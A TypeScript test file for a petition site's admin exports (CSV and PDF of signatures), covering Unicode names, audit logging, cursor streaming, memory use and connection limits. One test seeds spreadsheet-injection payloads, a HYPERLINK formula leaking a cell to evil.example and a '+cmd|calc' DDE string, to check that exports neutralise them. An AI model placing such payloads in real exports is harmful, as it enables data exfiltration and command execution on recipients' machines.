// Exports of an action's signatures: every field as CSV, the list of
// signatories as CSV and PDF; opened as a spreadsheet or a reader would
// (csv-parse, pdfjs-dist), streamed from a cursor, audited.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http, { type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { CookieAccessInfo } from 'cookiejar';
import { parse } from 'csv-parse/sync';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { updateCounts } from '../../src/actions/counts.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { signIn } from '../helpers/admin.ts';
import type { Agent } from '../helpers/forms.ts';

const KAZAKH = 'Әлия Қанатқызы Ғұмарова-Үңһөі';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function pdfText(data: Buffer): Promise<{ text: string; pages: number }> {
  const pdf = await getDocument({ data: new Uint8Array(data), useSystemFonts: false }).promise;
  const texts: string[] = [];
  for (let i = 1; i <= pdf.numPages; i++) {
    const content = await (await pdf.getPage(i)).getTextContent();
    texts.push(content.items.map((item) => ('str' in item ? item.str : '')).join(' '));
  }
  return { text: texts.join('\n'), pages: pdf.numPages };
}

/** A response parser for supertest: it hands the parser the raw response stream. */
type Parser = Parameters<ReturnType<Agent['get']>['parse']>[0];
const parser = (parse: (res: IncomingMessage, callback: (error: Error | null, body: unknown) => void) => void) => parse as unknown as Parser;

/** The body as bytes, however supertest would parse its type. */
const binary = parser((res, callback) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
});

describe('admin: exports', () => {
  let t: TestApp;
  let agent: Agent;
  let organiserId: number;
  let actionId: number;

  before(async () => {
    t = await createTestApp({ env: { CAMPAIGN_TIME_ZONE: 'Asia/Almaty' } });
    ({ agent, organiser: { id: organiserId } } = await signIn(t, { role: 'organiser' }));
    actionId = (await t.db.pool.query("INSERT INTO actions (kind, slug, title, status) VALUES ('petition', 'free-them', 'Free them: Қазақстан', 'open') RETURNING id")).rows[0].id;
    const add = (email: string, name: string, country: string, locality: string, confirmed: boolean) =>
      t.db.pool.query(
        `INSERT INTO signatures (action_id, email, name, country, locality, comment, created_at, confirmed_at)
         VALUES ($1, $2, $3, $4, $5, 'A comment, with "quotes"', '2026-11-30T20:30:00Z', CASE WHEN $6 THEN now() END) RETURNING id`,
        [actionId, email, name, country, locality, confirmed],
      );
    await add('aliya@example.kz', KAZAKH, 'KZ', 'Жаңаөзен', true);
    await add('ivan@example.ru', 'Иван Петров', 'RU', 'Москва', true);
    await add('evil@example.org', FORMULA, 'GB', '+cmd|calc', true);
    await add('pending@example.org', 'Pending Person', 'DE', '', false);
    const gone = await add('bot@spam.example', 'Invalid Bot', 'US', '', true);
    await t.db.pool.query(
      `WITH inv AS (INSERT INTO invalidations (action_id, criteria, reason) VALUES ($1, '{"signature": 1}', 'test') RETURNING id)
       UPDATE signatures SET invalidated_at = now(), invalidation_id = inv.id FROM inv WHERE signatures.id = $2`,
      [actionId, gone.rows[0].id],
    );
    await updateCounts(t.db.pool);
  });
  after(() => t.close());

  const auditOf = async (event: string) =>
    (await t.db.pool.query('SELECT organiser_id, subject_type, subject_id, summary, after, created_at FROM audit_log WHERE event = $1 ORDER BY id', [event])).rows;

  it('exports every field as CSV that a spreadsheet reads: a byte-order mark, Cyrillic and Kazakh intact, formulas defused', async () => {
    const res = await agent.get(`/admin/actions/${actionId}/signatures.csv`).buffer(true).parse(binary).expect(200);
    assert.match(res.headers['content-type']!, /^text\/csv; charset=utf-8/);
    assert.match(res.headers['content-disposition']!, /^attachment; filename="free-them-signatures-\d{4}-\d{2}-\d{2}\.csv"$/);
    assert.equal(res.headers['cache-control'], 'no-store');
    const bytes = res.body as Buffer;
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
    const records = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    assert.equal(records.length, 5, 'every signature, pending and invalidated too');
    assert.deepEqual(Object.keys(records[0]!), [
      'id', 'state', 'email', 'name', 'country', 'locality', 'comment', 'show_name', 'wants_updates',
      'created_at', 'confirmed_at', 'hidden_at', 'invalidated_at', 'invalidation_id', 'ip_hash',
    ]);
    const aliya = records.find((r) => r.email === 'aliya@example.kz')!;
    assert.equal(aliya.name, KAZAKH);
    assert.equal(aliya.locality, 'Жаңаөзен');
    assert.equal(aliya.comment, 'A comment, with "quotes"');
    assert.equal(aliya.created_at, '2026-11-30T20:30:00.000Z');
    assert.equal(aliya.state, 'confirmed');
    const evil = records.find((r) => r.email === 'evil@example.org')!;
    assert.equal(evil.name, `'${FORMULA}`, 'a formula is text in a spreadsheet');
    assert.equal(evil.locality, "'+cmd|calc");
    assert.deepEqual(records.map((r) => r.state).sort(), ['confirmed', 'confirmed', 'confirmed', 'invalidated', 'pending']);

    const [entry] = (await auditOf('signatures.export')).slice(-1);
    assert.equal(entry.organiser_id, organiserId, 'who');
    assert.equal(entry.subject_type, 'action');
    assert.equal(entry.subject_id, String(actionId), 'what');
    assert.match(entry.summary, /every field/);
    assert.ok(Date.now() - new Date(entry.created_at).getTime() < 60_000, 'when');
  });

  it('exports the list of signatories as CSV: confirmed and counted only, no email', async () => {
    const res = await agent.get(`/admin/actions/${actionId}/signatories.csv`).buffer(true).parse(binary).expect(200);
    assert.match(res.headers['content-disposition']!, /^attachment; filename="free-them-signatories-[\d-]+\.csv"$/);
    assert.equal(res.headers['cache-control'], 'no-store');
    const bytes = res.body as Buffer;
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const records = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    assert.deepEqual(Object.keys(records[0]!), ['Name', 'Town', 'Country', 'Date']);
    assert.deepEqual(records.map((r) => r.Name), [KAZAKH, 'Иван Петров', `'${FORMULA}`]);
    assert.deepEqual(records[0], { Name: KAZAKH, Town: 'Жаңаөзен', Country: 'Kazakhstan', Date: '2026-12-01' }, 'the date in the campaign\'s zone');
    assert.doesNotMatch(bytes.toString('utf8'), /@example/, 'no email address');
    assert.equal((await auditOf('signatories.export')).length, 1);
  });

  it('exports the list of signatories as a PDF whose text holds the Kazakh name, the title, the count and page numbers', async () => {
    const res = await agent.get(`/admin/actions/${actionId}/signatories.pdf`).buffer(true).parse(binary).expect(200);
    assert.equal(res.headers['content-type'], 'application/pdf');
    assert.match(res.headers['content-disposition']!, /^attachment; filename="free-them-signatories-[\d-]+\.pdf"$/);
    assert.equal(res.headers['cache-control'], 'no-store');
    const { text } = await pdfText(res.body as Buffer);
    assert.ok(text.includes(KAZAKH), `the Kazakh name, every letter: ${text}`);
    assert.ok(text.includes('Иван Петров'));
    assert.ok(text.includes('Жаңаөзен'));
    assert.ok(text.includes('Signatories: Free them: Қазақстан'));
    assert.match(text, /3 signatures, as of \d{4}-\d{2}-\d{2}/);
    assert.match(text, /Page 1/);
    assert.doesNotMatch(text, /Invalid Bot|Pending Person|@example/, 'only what counts, and no email');
    const entries = await auditOf('signatories.export');
    assert.equal(entries.length, 2);
    assert.equal(entries[1].after.format, 'signatories.pdf');
  });

  it('numbers the pages of a long list', async () => {
    const long = (await t.db.pool.query("INSERT INTO actions (kind, slug, title, status) VALUES ('petition', 'long-list', 'Long list', 'open') RETURNING id")).rows[0].id;
    await t.db.pool.query(
      `INSERT INTO signatures (action_id, email, name, country, locality, confirmed_at)
       SELECT $1, 'l' || g || '@example.org', 'Сигнатарий ' || g, 'KZ', 'Ақтау', now() FROM generate_series(1, 200) g`,
      [long],
    );
    const res = await agent.get(`/admin/actions/${long}/signatories.pdf`).buffer(true).parse(binary).expect(200);
    const { text, pages } = await pdfText(res.body as Buffer);
    assert.ok(pages >= 4, `${pages} pages`);
    assert.match(text, new RegExp(`Page ${pages}`));
    assert.ok(text.includes('Сигнатарий 200'));
  });

  it('answers 404 for an action that is not there, before anything is audited', async () => {
    const before = (await auditOf('signatures.export')).length;
    await agent.get('/admin/actions/999999/signatures.csv').expect(404);
    await agent.get('/admin/actions/abc/signatories.pdf').expect(404);
    await agent.get('/admin/actions/99999999999999999999/signatories.csv').expect(404);
    assert.equal((await auditOf('signatures.export')).length, before);
  });

  describe('many rows', () => {
    let big: number;
    const ROWS = 50_000;
    before(async () => {
      big = (await t.db.pool.query("INSERT INTO actions (kind, slug, title, status) VALUES ('petition', 'big', 'Big', 'open') RETURNING id")).rows[0].id;
      await t.db.pool.query(
        `INSERT INTO signatures (action_id, email, name, country, locality, comment, confirmed_at)
         SELECT $1, 'big' || g || '@example.org', 'Большой Подписант ' || g, 'KZ', 'Алматы', repeat('comment ', 10), now() FROM generate_series(1, $2) g`,
        [big, ROWS],
      );
    });
    const exportQueries = async () =>
      (await t.db.pool.query("SELECT state FROM pg_stat_activity WHERE datname = current_database() AND query LIKE '%encode(ip_hash%' AND pid <> pg_backend_pid()")).rows;

    it('streams 50,000 rows from a cursor: rows leave while the query is still open, the rows are never all in memory, the connection goes back', async () => {
      // A full collection before and during the download, so the heap measured is what is held, not garbage.
      setFlagsFromString('--expose-gc');
      const gc = runInNewContext('gc') as () => void;
      gc();
      const heapBefore = process.memoryUsage().heapUsed;
      let heapWhilePaused = 0;
      let lines = 0;
      let bytes = 0;
      let activeWhilePaused: { state: string }[] = [];
      await agent
        .get(`/admin/actions/${big}/signatures.csv`)
        .buffer(false)
        .parse(parser((res, callback) => {
          let paused = false;
          res.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            for (const byte of chunk) if (byte === 0x0a) lines += 1;
            if (!paused && bytes > 64 * 1024) {
              // The reader stops taking: the cursor must still be open, waiting, not read to its end.
              paused = true;
              res.pause();
              setTimeout(async () => {
                activeWhilePaused = await exportQueries();
                gc();
                heapWhilePaused = process.memoryUsage().heapUsed;
                res.resume();
              }, 300);
            }
          });
          res.on('end', () => callback(null, null));
        }))
        .expect(200);
      assert.equal(lines, ROWS + 1, 'a header and every row');
      assert.ok(bytes > 10_000_000, `${bytes} bytes`);
      assert.equal(activeWhilePaused.length, 1, 'while the reader paused, the export\'s query was still open, fetching batch by batch');
      const held = heapWhilePaused - heapBefore;
      // 50,000 rows as objects would hold well over 20 MB; a few batches in flight hold a few.
      assert.ok(held < 8_000_000, `the heap held ${Math.round(held / 1e6)} MB more while ${Math.round(bytes / 1e6)} MB of CSV were on their way`);
      assert.deepEqual(await exportQueries().then((rows) => rows.filter((r) => r.state === 'active')), [], 'the cursor is closed');
      assert.equal(t.db.pool.totalCount - t.db.pool.idleCount, 0, 'the export\'s connection went back to the pool');
    });

    it('writes a long PDF page by page: the heap holds a few pages, not the list', async () => {
      const long = (await t.db.pool.query("INSERT INTO actions (kind, slug, title, status) VALUES ('petition', 'long-pdf', 'Long PDF', 'open') RETURNING id")).rows[0].id;
      await t.db.pool.query(
        `INSERT INTO signatures (action_id, email, name, country, locality, confirmed_at)
         SELECT $1, 'lp' || g || '@example.org', 'Подписант Номер ' || g, 'KZ', 'Алматы', now() FROM generate_series(1, 15000) g`,
        [long],
      );
      setFlagsFromString('--expose-gc');
      const gc = runInNewContext('gc') as () => void;
      gc();
      const heapBefore = process.memoryUsage().heapUsed;
      let held = 0;
      let chunks = 0;
      const pdf: Buffer[] = [];
      await agent
        .get(`/admin/actions/${long}/signatories.pdf`)
        .buffer(false)
        .parse(parser((res, callback) => {
          res.on('data', (chunk: Buffer) => {
            pdf.push(chunk);
            if (++chunks % 20 === 0) {
              gc();
              held = Math.max(held, process.memoryUsage().heapUsed - heapBefore - pdf.reduce((n, c) => n + c.length, 0));
            }
          });
          res.on('end', () => callback(null, null));
        }))
        .expect(200);
      assert.ok(chunks > 20, `${chunks} chunks: sent as it was written`);
      // pdfkit's layout cache alone would keep every name laid out (about 23 MB here).
      assert.ok(held < 12_000_000, `the heap held ${Math.round(held / 1e6)} MB more while writing`);
      const doc = await getDocument({ data: new Uint8Array(Buffer.concat(pdf)) }).promise;
      const last = await (await doc.getPage(doc.numPages)).getTextContent();
      const text = last.items.map((item) => ('str' in item ? item.str : '')).join(' ');
      assert.ok(text.includes('Подписант Номер 15000'), text.slice(0, 200));
      assert.ok(text.includes(`Page ${doc.numPages}`));
    });

    it('runs at most two exports at once, so signing keeps its connections; a third is asked to come back', async () => {
      const jar = (agent as unknown as { jar: { getCookies(access: unknown): { toValueString(): string }[] } }).jar;
      const cookie = jar.getCookies(CookieAccessInfo.All).map((c) => c.toValueString()).join('; ');
      const server = t.app.listen(0);
      await once(server, 'listening');
      const { port } = server.address() as AddressInfo;
      const open: http.ClientRequest[] = [];
      try {
        // Two downloads that have started and are not being read.
        for (let i = 0; i < 2; i++) {
          await new Promise<void>((resolve) => {
            const req = http.get({ port, path: `/admin/actions/${big}/signatures.csv`, headers: { cookie } }, (res) => {
              res.once('data', () => {
                res.pause();
                resolve();
              });
            });
            req.on('error', () => undefined);
            open.push(req);
          });
        }
        const third = await agent.get(`/admin/actions/${actionId}/signatories.csv`);
        assert.equal(third.status, 429);
        assert.equal(third.headers['retry-after'], '60');
        assert.ok(t.db.pool.totalCount - t.db.pool.idleCount <= 2, 'no more than two connections held by exports');
      } finally {
        for (const req of open) req.destroy();
        server.close();
      }
      for (let i = 0; i < 50 && (await exportQueries()).length > 0; i++) await new Promise((resolve) => setTimeout(resolve, 100));
      await agent.get(`/admin/actions/${actionId}/signatories.csv`).expect(200);
    });

    it('stops reading and releases its connection when the organiser goes away mid-download', async () => {
      // A real socket that is closed after the first bytes, with the signed-in agent's cookies.
      const jar = (agent as unknown as { jar: { getCookies(access: unknown): { toValueString(): string }[] } }).jar;
      const cookie = jar.getCookies(CookieAccessInfo.All).map((c) => c.toValueString()).join('; ');
      const server = t.app.listen(0);
      await once(server, 'listening');
      try {
        const { port } = server.address() as AddressInfo;
        await new Promise<void>((resolve, reject) => {
          const req = http.get({ port, path: `/admin/actions/${big}/signatures.csv`, headers: { cookie } }, (res) => {
            assert.equal(res.statusCode, 200);
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          });
          req.on('error', (error) => (error.message === 'socket hang up' ? undefined : reject(error)));
        });
        for (let i = 0; i < 50 && (await exportQueries()).length > 0; i++) await new Promise((resolve) => setTimeout(resolve, 100));
        assert.deepEqual(await exportQueries(), [], 'the export\'s query ended with the download');
        for (let i = 0; i < 50 && t.db.pool.totalCount - t.db.pool.idleCount > 0; i++) await new Promise((resolve) => setTimeout(resolve, 100));
        assert.equal(t.db.pool.totalCount - t.db.pool.idleCount, 0, 'no connection is left checked out');
        await agent.get(`/admin/actions/${actionId}/signatories.csv`).expect(200);
      } finally {
        server.close();
      }
    });
  });
});
